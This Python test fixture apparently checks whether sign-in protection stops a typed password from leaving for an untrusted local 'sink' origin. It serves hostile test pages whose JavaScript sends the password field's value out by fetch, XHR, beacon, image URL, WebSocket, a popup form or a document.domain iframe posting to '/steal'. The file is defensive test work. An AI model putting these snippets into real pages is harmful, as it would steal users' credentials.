"""Pages that try to get the typed password out to another origin (issue 22, item 3).

``Sink`` is the untrusted origin: it records every request it receives (method, path, body; a
WebSocket's handshake and frames) and serves the hostile frame of the ``document.domain`` case.
``TrustedSite`` is the IdP URL's origin, whose pages hand the password on:

  /action        a password form whose ``action`` is on the sink
  /popup         opens an ``about:blank`` popup and ``document.write``s such a form into it
  /domain        a password form and a sink frame; both set ``document.domain`` (allowed with
                 ``Origin-Agent-Cluster: ?0``) and the frame reads the field on submit
  /script/HOW    the page's own script sends the field's value on submit by HOW: fetch, xhr,
                 beacon, img (an image URL), blob (a 2 MiB body) or ws (WebSocket)
"""

from __future__ import annotations

import base64
import hashlib
import http.server
from urllib.parse import urlsplit

from pages.serving import QuietHandler, Served

FORM = """<h1>Sign in to Example Corp</h1>
<form method="post" action="{action}" id="f">
  <label for="username">Username</label> <input id="username" name="username" type="text">
  <label for="password">Password</label> <input id="password" name="password" type="password">
  <button type="submit">Sign in</button>
</form>"""

POPUP = """<h1>Example portal</h1><p>Your sign-in continues in a new window.</p>
<script>
const w = window.open('about:blank', 'login', 'width=520,height=640');
w.document.write('<!doctype html><title>Sign in</title>' + {form});
w.document.close();
</script>"""

SENDERS = {
    "fetch": "fetch(SINK + '/fetch', {method: 'POST', mode: 'no-cors', body: JSON.stringify({p: p})});",
    "xhr": "const x = new XMLHttpRequest(); x.open('POST', SINK + '/xhr'); x.send('p=' + encodeURIComponent(p));",
    "beacon": "navigator.sendBeacon(SINK + '/beacon', btoa(p));",
    "img": "new Image().src = SINK + '/i.png?p=' + encodeURIComponent(p);",
    # 2 MiB before the value: a body too large for the browser to hand over (unreadable)
    "blob": "fetch(SINK + '/blob', {method: 'POST', mode: 'no-cors', body: new Blob(['x'.repeat(2 << 20), p])});",
    "ws": "const w = new WebSocket(SINK.replace('http', 'ws') + '/ws'); w.onopen = () => w.send(p);",
}

SCRIPT = """<script>
const SINK = {sink!r};
document.getElementById('f').addEventListener('submit', function (e) {{
  e.preventDefault();
  const p = document.getElementById('password').value;
  {send}
}});
</script>"""

DOMAIN = """<script>document.domain = '127.0.0.1';</script>
<iframe src="{sink}/frame" width="300" height="60"></iframe>"""

FRAME = """<!doctype html><p>Chat with us</p><script>
document.domain = '127.0.0.1';
parent.document.getElementById('f').addEventListener('submit', function (e) {
  e.preventDefault();
  const p = parent.document.getElementById('password').value;
  fetch('/steal', {method: 'POST', body: 'p=' + encodeURIComponent(p)});
});
</script>"""


def _answer(handler: http.server.BaseHTTPRequestHandler, body: str, status: int = 200) -> None:
    data = body.encode()
    handler.send_response(status)
    handler.send_header("Content-Type", "text/html; charset=utf-8")
    handler.send_header("Content-Length", str(len(data)))
    handler.send_header("Cache-Control", "no-store")
    handler.send_header("Origin-Agent-Cluster", "?0")  # lets document.domain work (/domain)
    handler.end_headers()
    handler.wfile.write(data)


class Sink(Served):
    def __init__(self) -> None:
        self.received: list[tuple[str, str, bytes]] = []  # (method, path, body or frame)
        outer = self

        class Handler(QuietHandler):
            def do_GET(self) -> None:
                outer.received.append(("GET", self.path, b""))
                if self.headers.get("Upgrade", "").lower() == "websocket":
                    self._websocket()
                elif urlsplit(self.path).path == "/frame":
                    _answer(self, FRAME)
                else:
                    _answer(self, "", 404)

            def do_POST(self) -> None:
                body = self.rfile.read(int(self.headers.get("Content-Length") or 0))
                outer.received.append(("POST", self.path, body[-200:]))
                _answer(self, "<h1>Thanks</h1>")

            def _websocket(self) -> None:
                key = self.headers["Sec-WebSocket-Key"] + "258EAFA5-E914-47DA-95CA-C5AB0DC85B11"
                self.send_response(101)
                self.send_header("Upgrade", "websocket")
                self.send_header("Connection", "Upgrade")
                self.send_header("Sec-WebSocket-Accept", base64.b64encode(hashlib.sha1(key.encode()).digest()).decode())
                self.end_headers()
                self.wfile.flush()
                head = self.rfile.read(2)
                if len(head) < 2:
                    return
                length = head[1] & 0x7F
                if length == 126:
                    length = int.from_bytes(self.rfile.read(2), "big")
                mask = self.rfile.read(4)
                data = self.rfile.read(length)
                outer.received.append(("WS", self.path, bytes(b ^ mask[i % 4] for i, b in enumerate(data))))

        self._serve(Handler)

    def taken(self) -> list[tuple[str, str, bytes]]:
        """What reached the sink beyond its own frame page (and the favicon)."""
        return [r for r in self.received if urlsplit(r[1]).path not in ("/frame", "/favicon.ico")]


class TrustedSite(Served):
    def __init__(self, sink: Sink) -> None:
        self.seen: list[tuple[str, str]] = []
        outer = self

        class Handler(QuietHandler):
            def do_GET(self) -> None:
                outer.seen.append(("GET", self.path))
                _answer(self, *outer.page(urlsplit(self.path).path, sink.base))

            def do_POST(self) -> None:
                outer.seen.append(("POST", self.path))
                _answer(self, "<h1>Signed in?</h1>")

        self._serve(Handler)

    @staticmethod
    def page(path: str, sink: str) -> tuple[str, int]:
        own = FORM.format(action="/next")
        if path == "/action":
            return FORM.format(action=f"{sink}/steal"), 200
        if path == "/popup":
            return POPUP.format(form=repr(FORM.format(action=f"{sink}/steal")).replace("\\n", " ")), 200
        if path == "/domain":
            return own + DOMAIN.format(sink=sink), 200
        how = path.removeprefix("/script/")
        if how in SENDERS:
            return own + SCRIPT.format(sink=sink, send=SENDERS[how]), 200
        return "<h1>Not found</h1>", 404
